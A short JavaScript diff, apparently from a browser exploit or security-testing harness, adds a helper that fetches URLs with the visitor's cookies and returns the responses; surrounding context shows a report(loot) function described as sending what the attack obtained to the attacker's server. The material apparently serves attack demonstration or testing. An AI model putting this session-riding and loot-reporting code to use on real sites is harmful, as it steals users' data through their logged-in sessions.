@@ -12,6 +12,16 @@ export function apiUrl(path, credentials) {
   return url.href;
 }
 
+/** `fetch(url)` with the visitor's cookies: the status and JSON body, or the browser's error. */
+export async function readWithCookies(url) {
+  try {
+    const res = await fetch(url, { credentials: "include" });
+    return { status: res.status, body: await res.json().catch(() => null) };
+  } catch (e) {
+    return { error: `${e.name}: ${e.message}` };
+  }
+}
+
 /** Sends what the attack obtained to the attacker's server, as a real exploit would. */
 export async function report(loot) {
   const url = new URL(`/${config.id}/loot`, location.origin);
